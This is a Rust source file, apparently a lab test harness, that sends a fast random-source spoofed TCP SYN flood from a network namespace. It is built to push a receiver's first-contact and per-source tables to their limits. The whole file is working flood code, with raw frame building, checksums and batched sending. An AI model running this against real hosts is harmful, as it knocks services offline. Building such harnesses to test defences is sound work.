//! A random-source TCP SYN flood sender for lab tests: an AF_PACKET socket in the lab's attacker
//! namespace (entered by one thread with `setns`, so nothing else of the test moves), frames built
//! here, sent in batches with `sendmmsg` and `PACKET_QDISC_BYPASS` — far faster than
//! `hping3 --flood --rand-source` (~28k packets/s here).
//!
//! Sources are random addresses of a prefix the caller routes to a blackhole in the receiving
//! namespace (the receiver's SYN-ACKs and RSTs to the spoofed sources go nowhere). Half the frames
//! reuse a recent source (a second SYN to another port), so sources are admitted past the
//! first-contact table and the per-source map runs at its bound; the other half are one-shot
//! sources, as a spoofed flood sends.
use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// What one flood did.
#[derive(Debug, Clone, Copy, Default)]
pub struct FloodStats {
    /// Frames the kernel accepted (sendmmsg's count).
    pub sent: u64,
    /// Frames refused (ENOBUFS/EAGAIN), not retried: they never reached the wire.
    pub refused: u64,
    /// Distinct random sources drawn (an upper bound on the spoofed sources the receiver saw).
    pub sources: u64,
    pub elapsed: Duration,
}

impl FloodStats {
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// What to send.
#[derive(Debug, Clone)]
pub struct Flood {
    /// Network namespace to send from (`ip netns` name).
    pub netns: String,
    /// Interface in that namespace.
    pub ifname: String,
    pub src_mac: [u8; 6],
    pub dst_mac: [u8; 6],
    pub dst: Ipv4Addr,
    /// Destination ports, picked at random per frame.
    pub ports: Vec<u16>,
    /// Spoofed sources: random addresses in this prefix.
    pub src_net: Ipv4Addr,
    pub src_len: u8,
    pub duration: Duration,
}

/// Parses "aa:bb:cc:dd:ee:ff".
pub fn mac(s: &str) -> [u8; 6] {
    let v: Vec<u8> = s.trim().split(':').map(|h| u8::from_str_radix(h, 16).unwrap_or_else(|_| panic!("bad MAC {s:?}"))).collect();
    v.try_into().unwrap_or_else(|_| panic!("bad MAC {s:?}"))
}

struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
}

fn csum_add(mut sum: u32, data: &[u8]) -> u32 {
    let mut i = 0;
    while i + 1 < data.len() {
        sum += u32::from(u16::from_be_bytes([data[i], data[i + 1]]));
        i += 2;
    }
    if i < data.len() {
        sum += u32::from(data[i]) << 8;
    }
    sum
}

fn csum_fold(mut sum: u32) -> u16 {
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

const FRAME: usize = 14 + 20 + 24; // Ethernet, IPv4, TCP with the MSS option

/// Writes one SYN frame (valid IP and TCP checksums) into `f`.
fn frame(f: &mut [u8; FRAME], fl: &Flood, src: Ipv4Addr, sport: u16, dport: u16, seq: u32, id: u16) {
    f[0..6].copy_from_slice(&fl.dst_mac);
    f[6..12].copy_from_slice(&fl.src_mac);
    f[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
    let ip = &mut f[14..34];
    ip.copy_from_slice(&[0x45, 0, 0, 44, 0, 0, 0, 0, 64, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    ip[4..6].copy_from_slice(&id.to_be_bytes());
    ip[12..16].copy_from_slice(&src.octets());
    ip[16..20].copy_from_slice(&fl.dst.octets());
    let c = csum_fold(csum_add(0, ip));
    ip[10..12].copy_from_slice(&c.to_be_bytes());
    let tcp = &mut f[34..58];
    tcp.fill(0);
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&dport.to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = 6 << 4; // data offset 24 bytes
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]); // MSS 1460
    let mut sum = csum_add(0, &src.octets());
    sum = csum_add(sum, &fl.dst.octets());
    sum += 6 + 24;
    let c = csum_fold(csum_add(sum, tcp));
    tcp[16..18].copy_from_slice(&c.to_be_bytes());
}

fn enter_netns(name: &str) {
    let path = format!("/var/run/netns/{name}");
    let f = std::fs::File::open(&path).unwrap_or_else(|e| panic!("open {path}: {e}"));
    // SAFETY: setns on a valid namespace fd; it moves only the calling thread.
    let r = unsafe { libc::setns(f.as_raw_fd(), libc::CLONE_NEWNET) };
    assert_eq!(r, 0, "setns({path}): {}", std::io::Error::last_os_error());
}

/// Sends the flood for `fl.duration` (or until `stop`), from a thread of its own in `fl.netns`.
pub fn run(fl: &Flood, stop: &AtomicBool) -> FloodStats {
    std::thread::scope(|s| s.spawn(|| send(fl, stop)).join().expect("flood thread"))
}

fn send(fl: &Flood, stop: &AtomicBool) -> FloodStats {
    assert!(!fl.ports.is_empty(), "flood needs ports");
    assert!((4..=30).contains(&fl.src_len), "flood source prefix /{} out of 4..=30", fl.src_len);
    enter_netns(&fl.netns);
    // SAFETY: plain socket(2); the result is checked and owned.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0) };
    assert!(fd >= 0, "AF_PACKET socket: {}", std::io::Error::last_os_error());
    // SAFETY: fd is a fresh, valid descriptor we own.
    let sock = unsafe { OwnedFd::from_raw_fd(fd) };
    let cname = std::ffi::CString::new(fl.ifname.as_str()).expect("ifname");
    // SAFETY: valid NUL-terminated name.
    let ifindex = unsafe { libc::if_nametoindex(cname.as_ptr()) };
    assert!(ifindex != 0, "no interface {} in {}", fl.ifname, fl.netns);
    // SAFETY: zeroed sockaddr_ll is a valid value; fields set below.
    let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    sll.sll_family = libc::AF_PACKET as u16;
    sll.sll_ifindex = ifindex as i32;
    sll.sll_protocol = 0;
    // SAFETY: sll is a properly sized sockaddr_ll.
    let r = unsafe { libc::bind(sock.as_raw_fd(), &sll as *const _ as *const libc::sockaddr, std::mem::size_of::<libc::sockaddr_ll>() as u32) };
    assert_eq!(r, 0, "bind AF_PACKET to {}: {}", fl.ifname, std::io::Error::last_os_error());
    let one: libc::c_int = 1;
    // SAFETY: option value is a c_int. Failure only costs speed (the qdisc path is used).
    unsafe {
        libc::setsockopt(sock.as_raw_fd(), libc::SOL_PACKET, libc::PACKET_QDISC_BYPASS, &one as *const _ as *const libc::c_void, 4);
    }

    const BATCH: usize = 64;
    let mut frames = vec![[0u8; FRAME]; BATCH];
    let mut iov: Vec<libc::iovec> = frames.iter_mut().map(|f| libc::iovec { iov_base: f.as_mut_ptr().cast(), iov_len: FRAME }).collect();
    // SAFETY: zeroed mmsghdr is valid; the iovec pointers stay valid while `iov`/`frames` live.
    let mut msgs: Vec<libc::mmsghdr> = iov
        .iter_mut()
        .map(|v| {
            let mut m: libc::mmsghdr = unsafe { std::mem::zeroed() };
            m.msg_hdr.msg_iov = v;
            m.msg_hdr.msg_iovlen = 1;
            m
        })
        .collect();

    let mut rng = Rng(0x9E37_79B9_7F4A_7C15 ^ u64::from(std::process::id()));
    let base = u32::from(fl.src_net) & (u32::MAX << (32 - fl.src_len));
    let host_mask = !(u32::MAX << (32 - fl.src_len));
    let mut recent = [0u32; 1024];
    let mut st = FloodStats::default();
    let t0 = Instant::now();
    let mut n: u64 = 0;
    while t0.elapsed() < fl.duration && !stop.load(Ordering::Relaxed) {
        for f in frames.iter_mut() {
            let r = rng.next();
            let slot = (r >> 40) as usize % recent.len();
            let src = if r & 1 == 1 && recent[slot] != 0 {
                // A second SYN from a recent source: it gets admitted and takes a map entry.
                std::mem::replace(&mut recent[slot], 0)
            } else {
                let a = base | ((r >> 8) as u32 & host_mask);
                recent[slot] = a;
                st.sources += 1;
                a
            };
            let dport = fl.ports[(r >> 20) as usize % fl.ports.len()];
            let sport = 1024 + ((r >> 32) as u16 % 60000);
            frame(f, fl, Ipv4Addr::from(src), sport, dport, (r >> 16) as u32, n as u16);
            n += 1;
        }
        // SAFETY: msgs point at BATCH valid frames.
        let k = unsafe { libc::sendmmsg(sock.as_raw_fd(), msgs.as_mut_ptr(), BATCH as u32, 0) };
        if k < 0 {
            st.refused += BATCH as u64;
            let e = std::io::Error::last_os_error();
            match e.raw_os_error() {
                Some(libc::ENOBUFS) | Some(libc::EAGAIN) => std::thread::yield_now(),
                _ => panic!("sendmmsg on {}: {e}", fl.ifname),
            }
        } else {
            st.sent += k as u64;
            st.refused += (BATCH - k as usize) as u64;
        }
    }
    st.elapsed = t0.elapsed();
    st
}
